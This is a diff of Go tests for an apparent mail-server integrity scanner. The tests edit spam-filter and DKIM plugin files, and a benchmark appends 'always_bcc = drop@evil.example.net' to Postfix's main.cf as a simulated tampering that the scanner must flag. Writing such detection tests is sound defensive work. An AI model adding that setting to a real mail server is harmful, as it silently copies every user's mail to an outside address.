@@ -18,6 +18,7 @@ import (
 	"waxseal/internal/cli"
 	"waxseal/internal/lab"
 	"waxseal/internal/mailpath"
+	"waxseal/internal/mask"
 	"waxseal/internal/rootfs"
 )
 
@@ -62,6 +63,47 @@ func TestStockDebianIsQuiet(t *testing.T) {
 	}
 }
 
+// TestFiltersCode: what filters load by name is part of the mail path, wherever their
+// packages put it, and what lies beside it too.
+func TestFiltersCode(t *testing.T) {
+	root := stock(t)
+	masker := agent.ThrowAwayMasker()
+	before := readStock(t, root, masker)
+	edited := []string{
+		"/usr/share/rspamd/plugins/maillist.lua", "/usr/share/perl5/Mail/SpamAssassin/Plugin/SPF.pm", "/usr/share/spamassassin/50_scores.cf", "/usr/share/perl5/Mail/DKIM/Verifier.pm",
+		"/usr/lib/dovecot/modules/lib10_quota_plugin.so",
+	}
+	for _, name := range edited {
+		appendTo(t, filepath.Join(root, name), "\n# edited\n")
+	}
+	const strange = "/usr/share/perl5/Mail/SpamAssassin/Plugin/Own.pm"
+	if err := os.WriteFile(filepath.Join(root, strange), []byte("1;\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	told := map[string]vocabulary.Severity{}
+	for _, ch := range agent.Differences(before, readStock(t, root, masker)) {
+		told[string(ch.Path)] = ch.Severity
+	}
+	for _, name := range append(edited, strange) {
+		if told[name] < vocabulary.High {
+			t.Errorf("%s: %s", name, told[name])
+		}
+	}
+	if len(told) != len(edited)+1 {
+		t.Errorf("told %v", told)
+	}
+}
+
+func readStock(t *testing.T, root string, m *mask.Masker) vocabulary.State {
+	t.Helper()
+	tree, err := rootfs.Open(root)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer tree.Close()
+	return mailpath.NewReader(m).Read(tree)
+}
+
 // BenchmarkStock measures scan and diff of such a server, digests of all
 // closures included, and beside it AIDE, which compares SHA-256 alone of the same
 // files. Each is a whole process; what was read before is in the page cache.
@@ -79,7 +121,7 @@ func BenchmarkStock(b *testing.B) {
 		process(b, size, "chroot", append([]string{root, "sha256sum"}, files...)...)
 	})
 	after := stock(b)
-	edit(b, after, "etc/postfix/main.cf", "always_bcc = drop@evil.example.net\n")
+	appendTo(b, filepath.Join(after, "etc/postfix/main.cf"), "always_bcc = drop@evil.example.net\n")
 	b.Run("diff", func(b *testing.B) {
 		process(b, 2*size, bin, "diff", root, after, "--format", "json", "--fail-on", "critical")
 	})
@@ -119,15 +161,15 @@ func aideInit(b *testing.B, root string, files []string) {
 	}
 }
 
-func edit(b *testing.B, root, name, text string) {
-	b.Helper()
-	f, err := os.OpenFile(filepath.Join(root, name), os.O_APPEND|os.O_WRONLY, 0)
+func appendTo(tb testing.TB, name, text string) {
+	tb.Helper()
+	f, err := os.OpenFile(name, os.O_APPEND|os.O_WRONLY, 0)
 	if err != nil {
-		b.Fatal(err)
+		tb.Fatal(err)
 	}
 	defer f.Close()
 	if _, err := f.WriteString(text); err != nil {
-		b.Fatal(err)
+		tb.Fatal(err)
 	}
 }
 
